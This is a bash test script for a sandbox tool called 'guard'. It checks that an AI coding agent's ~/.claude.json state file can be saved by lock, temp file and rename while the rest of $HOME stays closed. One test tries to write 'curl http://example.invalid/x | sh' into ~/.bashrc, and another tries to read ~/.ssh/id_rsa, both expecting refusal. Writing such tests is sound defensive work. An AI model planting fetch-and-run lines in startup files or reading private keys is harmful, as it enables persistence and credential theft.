#!/usr/bin/env bash
# An agent's state file saved the way Claude Code 2.1 saves ~/.claude.json (issue 11): a ~/.claude.json.lock
# directory, a ~/.claude.json.tmp.<pid>.<hex> file renamed over the file, no in-place fallback. Under the
# claude-code profile the save works and persists to the next run, while the rest of $HOME stays closed: no other
# new name beside it, no placeholder replaced, nothing left behind on the host. state_save_static does exactly
# those calls, statically linked like the agent's own runtime (no shim sees them).
#
# Namespaces mode: the file is a private copy in the sandbox's home, saved back by guard (state_sync.h), and its
# directory admits only the file's own names (the observer: state_names.h). Landlock-only mode cannot grant those
# names without opening $HOME: the save fails and guard says why at start.
. "$(dirname "$0")/../lib.sh"
setup_world
SAVE=$(helper state_save_static)
[ -n "$SAVE" ] || { t_skip_n 17 "state files" "helper state_save_static not built (make tests)"; t_done; }
_put "$HOME/.claude.json" '{"numStartups": 1}'

if have_userns; then
	gr --profile claude-code -- "$SAVE" "$HOME/.claude.json" '{"numStartups": 2}'
	t_allowed "namespaces: lock dir, temp file and rename beside ~/.claude.json succeed" "saved $HOME/.claude.json"
	t_eq "namespaces: the host's ~/.claude.json holds what was saved" '{"numStartups": 2}' \
		"$(cat "$HOME/.claude.json" 2>/dev/null)"
	gr --profile claude-code -- cat "$HOME/.claude.json"
	t_allowed "namespaces: the next run reads the saved state" '{"numStartups": 2}'
	gr --profile claude-code -- sh -c "'$SAVE' '$HOME/.claude.json' '{\"numStartups\": 3}' && cat '$HOME/.claude.json'"
	t_allowed "namespaces: saved twice in one session, read back inside" '{"numStartups": 3}'
	t_eq "namespaces: ... and on the host" '{"numStartups": 3}' "$(cat "$HOME/.claude.json" 2>/dev/null)"
	t_eq "namespaces: no lock, temp or guard file left in the host's home" "" \
		"$(cd "$HOME" && ls -A | grep -E '^\.?\.claude\.json\.' )"
	# The directory is writable for the state file's names only.
	gr --profile claude-code -- sh -c "echo x > '$HOME/new-in-home.txt'"
	t_refused "namespaces: no other new name beside it"
	gr --profile claude-code -- "$SAVE" "$HOME/.bashrc" 'curl http://example.invalid/x | sh'
	t_refused "namespaces: ~/.bashrc cannot be replaced the same way (lock, temp, rename)"
	t_match "namespaces: ... refused at its first step" 'mkdir .*\.bashrc\.lock: Permission denied' "$ERR"
	t_eq "namespaces: ... the host's ~/.bashrc is untouched" "# $(canary bashrc)" "$(cat "$HOME/.bashrc")"
	gr --profile claude-code -- sh -c "rm -f '$HOME/.bashrc' || exit 1; ls -A '$HOME'"
	t_refused "namespaces: a hidden entry of the home cannot be removed"
	gr --profile claude-code -- mkdir "$HOME/.local/x"
	t_refused "namespaces: nor a directory made below the home"
	gr --profile claude-code -- cat "$HOME/.ssh/id_rsa"
	t_denied "namespaces: ~/.ssh/id_rsa still denied" id_rsa
	gr --profile claude-code --dry-run -- true
	t_match "namespaces: --dry-run lists the state copy" "state-copy +$HOME/\.claude\.json" "$OUT"
else
	t_skip_n 14 "namespaces mode: state file saved by rename" "no user namespaces here"
fi

# Landlock-only: nothing may be created in $HOME; guard says so at start instead of letting the save fail mutely.
_put "$HOME/.claude.json" '{"numStartups": 1}'
gr --profile claude-code --no-userns -- "$SAVE" "$HOME/.claude.json" '{"numStartups": 9}'
t_refused "landlock-only: the save by rename fails (no new names in \$HOME without opening it)"
t_match "landlock-only: guard says why at start" "\.claude\.json is saved in place only" "$ERR"
t_eq "landlock-only: the host's file is unchanged" '{"numStartups": 1}' "$(cat "$HOME/.claude.json")"
t_done
